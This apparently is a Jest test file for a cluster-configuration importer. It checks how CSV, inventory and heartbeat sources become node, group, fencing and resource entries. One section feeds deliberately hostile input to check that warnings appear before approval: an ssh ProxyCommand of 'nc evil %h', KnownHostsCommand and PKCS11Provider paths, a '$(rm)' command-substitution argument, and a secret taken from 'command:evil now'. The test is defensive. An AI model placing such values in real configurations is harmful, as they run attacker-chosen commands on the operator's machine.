import { expect, test } from '@jest/globals';
import { type ImportInput, importConfig } from '../../../../../src/core/config/exchange/import/import-config.ts';
import { nodeNamed } from '../../../../../src/core/config/nodes/resolve.ts';
import { silentReporter } from '../../../../../src/core/reporter.ts';
import { describeWith } from '../../../../support/components.ts';
import { clusterWith } from '../../check/samples.ts';
import { folders } from '../../file/folder.ts';
import { configHost } from '../../host.ts';
import { modelOf } from '../export/exported.ts';
import { sample, streamOf } from './found.ts';

const folder = folders();

async function cluster(start: string) {
  const warnings: string[] = [];
  const notes: string[] = [];
  const own = await configHost(folder(), start);
  const host = { ...own, reporter: { ...silentReporter, warn: told(warnings), note: told(notes) } };
  return {
    ...host,
    warnings,
    notes,
    model: () => modelOf(own.text()),
    from: (text: string, input: Partial<ImportInput> = {}) =>
      importConfig(host, { file: '-', stdin: streamOf(text), ...input }),
  };
}

const told = (lines: string[]) => (text: string) => {
  lines.push(text);
};

const nothing = { added: [], updated: [], kept: [], unchanged: [] };

describeWith(['flock'], 'an import', () => {
  test('folds nodes that are alike and says of a node no more than defaults leave open', async () => {
    const { from, text, events } = await cluster(
      'ocf: 1\ncluster: {name: c}\ndefaults: {node: {ssh: {user: root}}}\nnodes: {}\n',
    );
    const table = [
      'name,address,ssh.user,votes,attributes.rack',
      'n1,n1.mgmt,root,1,r1',
      'n2,n2.mgmt,root,1,r1',
      'n3,10.0.0.3,,,',
      'n4,10.0.0.4,,,',
      'alpha,,admin,,r1',
      'beta,,admin,,r1',
    ].join('\n');
    const result = await from(table, { reason: 'moved' });
    expect(text()).toBe(
      `ocf: 1\ncluster: {name: c}\ndefaults: {node: {ssh: {user: root}}}
nodes:
  n[1-2]: {address: "{name}.mgmt", attributes: {rack: r1}}
  n3: {address: 10.0.0.3}
  n4: {address: 10.0.0.4}
  alpha: {ssh: {user: admin}, attributes: {rack: r1}}
  beta: {ssh: {user: admin}, attributes: {rack: r1}}
`,
    );
    expect(result).toMatchObject({
      changed: true,
      cluster: 'c',
      sources: [{ file: 'standard input', format: 'csv', guessed: true }],
      nodes: { ...nothing, added: ['n1', 'n2', 'n3', 'n4', 'alpha', 'beta'] },
      leftOut: [],
    });
    expect(events[0]).toMatchObject({ kind: 'config import', reason: 'moved' });
    const again = await from(table);
    expect(again).toMatchObject({ changed: false, diff: '', nodes: { added: [], updated: [] } });
  });

  test('changes what differs, splitting node sets, and leaves everything else alone', async () => {
    const start = clusterWith('\n  n[1-4]: {votes: 2} # four\n  m1: {address: old, attributes: {a: b}}\n  z: {}', '');
    const { from, text, model } = await cluster(start);
    const result = await from('name,address,votes,attributes.rack\nn2,,3,\nn3,,,r1\nn4,,,r1\nm1,new,,\nz,,1,\n');
    expect(result.nodes).toEqual({ ...nothing, updated: ['n2', 'n3', 'n4', 'm1'], unchanged: ['z'] });
    const after = await model();
    expect(after.nodes.map(({ key }) => key)).toEqual(['n1', 'n2', 'n[3-4]', 'm1', 'z']);
    expect(nodeNamed(after, 'n1')).toMatchObject({ votes: 2, attributes: {} });
    expect(nodeNamed(after, 'n2')).toMatchObject({ votes: 3, attributes: {} });
    expect(nodeNamed(after, 'n4')).toMatchObject({ votes: 2, attributes: { rack: 'r1' } });
    expect(nodeNamed(after, 'm1')).toMatchObject({ address: 'new', attributes: { a: 'b' } });
    expect(text()).toContain('# four');
  });

  test('keeps or refuses what differs when told so', async () => {
    const { from, text } = await cluster(clusterWith('{n1: {votes: 2}, n2: {}}', 'groups: {g: n1}\n'));
    const before = text();
    const table = 'name,votes,groups\nn1,1,g\nn2,1,g\nn3,1,\n';
    await expect(from(table, { existing: 'refuse' })).rejects.toMatchObject({
      code: 'CONFLICT',
      message: 'The cluster file describes these otherwise: n1, g.',
      data: { nodes: ['n1'], others: ['g'] },
    });
    expect(text()).toBe(before);
    expect(await from(table, { existing: 'keep' })).toMatchObject({
      nodes: { ...nothing, added: ['n3'], kept: ['n1'], unchanged: ['n2'] },
      groups: { ...nothing, kept: ['g'] },
    });
    expect(text()).toBe(before.replace('n2: {}', 'n2: {}, n3: {}'));
  });

  test('a group gets the members it lacks, written as it was', async () => {
    const groups = 'groups: {plain: "n[1-2]", more: "@plain", whole: "n[1-3]"}\n';
    const { from, model } = await cluster(clusterWith('{"n[1-4]": {}}', groups));
    const result = await from('plain: n[2-3]\nmore: n3\nwhole: n1\nnew: n4\n');
    expect(result.groups).toEqual({ added: ['new'], updated: ['plain', 'more'], kept: [], unchanged: ['whole'] });
    expect((await model()).groups).toEqual({ plain: 'n[1-3]', more: '@plain,n3', whole: 'n[1-3]', new: 'n4' });
  });

  test('brings devices, fencing and resources, once', async () => {
    const { from, text } = await cluster(clusterWith('{}', ''));
    const input = { file: sample('cluster-file.yaml') };
    expect(await from('', input)).toMatchObject({
      devices: { added: ['pdu1'] },
      fencing: { added: ['n[1-2]'] },
      resources: { added: ['vip'] },
    });
    expect(text()).toContain('plugs: {"n[1-2]": "[1-2]"}');
    expect(text()).not.toContain('hunter2');
    expect(await from('', input)).toMatchObject({ changed: false, devices: { unchanged: ['pdu1'] } });
    const powerman = await from('', { file: sample('powerman.conf') });
    expect(powerman.devices.added).toEqual(['powerman']);
    expect(text()).toContain('options: {address: "localhost:10102"}');
    expect(text()).toMatch(/"?pengra\[0-9\]"?: "pengra\[0-9\]"/);
    expect(await from('', { file: sample('powerman.conf') })).toMatchObject({ changed: false });
  });

  test('several files are one change', async () => {
    const { from, events, model } = await cluster(clusterWith('{}', ''));
    const result = await from('', { file: sample('ha.cf'), with: [sample('haresources')] });
    expect(result.sources.map(({ format }) => format)).toEqual(['heartbeat', 'haresources']);
    expect(events.filter(({ phase }) => phase === 'begin')).toHaveLength(1);
    expect(Object.keys((await model()).resources)).toHaveLength(7);
  });

  test('can be limited to some nodes, also by the groups of the source', async () => {
    const { from, model } = await cluster(clusterWith('{}', ''));
    await from('', { file: sample('inventory.ini'), nodes: '@dbservers!here' });
    const after = await model();
    expect(after.nodes.map(({ key }) => key)).toEqual(['db-a', 'db-b', 'db-c', 'jumper']);
    expect(Object.keys(after.groups)).toEqual(['dbservers', 'atlanta']);
    await expect(from('', { file: sample('inventory.ini'), nodes: 'jumpr' })).rejects.toMatchObject({
      code: 'NOT_FOUND',
      message: 'The source describes no node jumpr.',
      suggestions: ['Did you mean jumper?'],
    });
  });

  test('a dry run says the same and writes nothing', async () => {
    const { from, text, events } = await cluster(clusterWith('{}', ''));
    const before = text();
    expect(await from('10.0.0.1 n1\n', { dryRun: true })).toMatchObject({
      changed: true,
      dryRun: true,
      changes: [{ section: 'nodes', of: 'n1', kind: 'added', field: 'address', to: '10.0.0.1' }],
    });
    expect([text(), events.length]).toEqual([before, 0]);
  });

  test('what is left out is told once for each reason', async () => {
    const { from, warnings } = await cluster(clusterWith('{}', ''));
    await from('[g]\nn[1:9] x=1\n[g:vars]\nadmin_password=hunter2\nl=[1]\n');
    expect(warnings).toEqual([
      'Left out, because secrets are not taken over: admin_password of n[1-9] (standard input:4).',
      'Left out, because it is a list or a map: l of n[1-9] (standard input:5).',
    ]);
  });

  test('the guessed format and another cluster are said', async () => {
    const { from, notes } = await cluster(clusterWith('{}', ''));
    await from('', { file: sample('corosync.conf'), format: 'corosync' });
    expect(notes).toEqual(['The source describes cluster debian; its name is not taken over.']);
    await from('n1 a\n');
    expect(notes.at(-1)).toBe('standard input is read as genders.');
  });

  test('what gives nothing, or cannot be told, is refused', async () => {
    const { from } = await cluster(clusterWith('{}', ''));
    const refused = (text: string, expected: object) => expect(from(text)).rejects.toMatchObject(expected);
    await refused('', { code: 'INVALID', message: 'standard input is empty.' });
    await refused('127.0.0.1 localhost\n', { code: 'INVALID', message: 'standard input describes no node.' });
    await refused('what\nis this?\n', { code: 'USAGE', message: 'The format of standard input is not recognised.' });
    await refused('n[1-3]\n', { code: 'USAGE' });
    await expect(from('', { file: '/nowhere/at/all' })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(from('', { file: '/' })).rejects.toMatchObject({ code: 'USAGE' });
    await expect(from('', { file: '/dev/zero' })).rejects.toMatchObject({ code: 'USAGE' });
  });
});

describeWith(['flock'], 'what an import lets run', () => {
  const start = 'ocf: 1\ncluster: {name: c}\nnodes: {old: {}}\n';
  const hostile = JSON.stringify([
    { name: 'n1', ssh: { options: { proxycommand: 'nc evil %h' } } },
    { name: 'n2', ssh: { options: { proxycommand: 'nc evil %h', ProxyCommand: 'none' } } },
    { name: 'n3', ssh: { jump: 'bastion', options: { KnownHostsCommand: '/bin/keys', PKCS11Provider: '/lib/x.so' } } },
    { name: 'n4', transport: 'command', command: ['enter', '$(rm)\u009b'] },
    { name: 'n5', transport: 'local' },
    { name: 'old', ssh: { options: { UserKnownHostsFile: '/dev/null', Compression: 'yes' } } },
  ]);

  test('on this machine, and whom it trusts, is said before it is agreed to', async () => {
    const { from, warnings } = await cluster(start);
    let heard: readonly string[] = [];
    const approve = async () => {
      heard = [...warnings];
    };
    await from(hostile, { format: 'json', approve });
    expect(heard).toEqual([
      'To reach n[1-2], this program will run on this machine: nc evil %h (ssh.options.proxycommand).',
      'The way to n3 will go through bastion (ssh.jump).',
      'To reach n3, this program will run on this machine: /bin/keys (ssh.options.KnownHostsCommand).',
      'To reach n3, ssh will load this library on this machine: /lib/x.so (ssh.options.PKCS11Provider).',
      'To reach n4, this program will run on this machine: enter $(rm)\\u009b (command).',
      'What is run on n5 will run on this machine (transport local).',
      'Which host key of old is right will be decided by /dev/null (ssh.options.UserKnownHostsFile).',
    ]);
  });

  test('is not said again when nothing comes of it', async () => {
    const { from, warnings } = await cluster(start);
    await from(hostile, { format: 'json' });
    warnings.length = 0;
    expect(await from(hostile, { format: 'json' })).toMatchObject({ changed: false });
    expect(warnings).toEqual([]);
  });

  test('as a command that gives a secret', async () => {
    const { from, warnings } = await cluster(start);
    const text = `${start}devices: {p: {driver: manual, options: {password: {from: "command:evil now"}}}}\n`;
    await from(text, { format: 'ocf' });
    expect(warnings).toEqual(['For password of device p, this program will run on this machine: evil now.']);
  });
});

describeWith(['flock'], 'clusters of clusters', () => {
  test('a file with members comes without them and what names their nodes', async () => {
    const { from, warnings, model } = await cluster('ocf: 1\ncluster: {name: c}\nnodes: {}\n');
    await from(
      `ocf: 1
cluster: {name: c}
members: {a: a}
nodes: {n1: {}}
groups: {g: "@a/web,n1", h: "a/n1", i: n1}
devices: {p: {driver: manual, plugs: {n1: 1, a/n1: 2}}}
fencing: {n1: [[p]], "a/n[1-2]": [[p]]}
resources: {r: {agent: "ocf:heartbeat:Dummy", nodes: "@a/web"}, s: {agent: "ocf:heartbeat:Dummy", nodes: n1}}
`,
      { format: 'ocf' },
    );
    const { groups, devices, fencing, resources } = await model();
    expect({ groups, plugs: devices.p?.plugs, fencing, resources: Object.keys(resources) }).toEqual({
      groups: { i: 'n1' },
      plugs: { n1: '1' },
      fencing: [{ key: 'n1', levels: [['p']] }],
      resources: ['s'],
    });
    expect(warnings.join('\n')).toContain('Left out, because clusters are not imported: member a (standard input:3).');
    expect(warnings.join('\n')).toContain(
      'because it names nodes of member clusters: group g (standard input:5), group h (standard input:5), plugs of p for a/n1 (standard input:6), fencing of a/n[1-2] (standard input:7), and 1 more.',
    );
  });
});
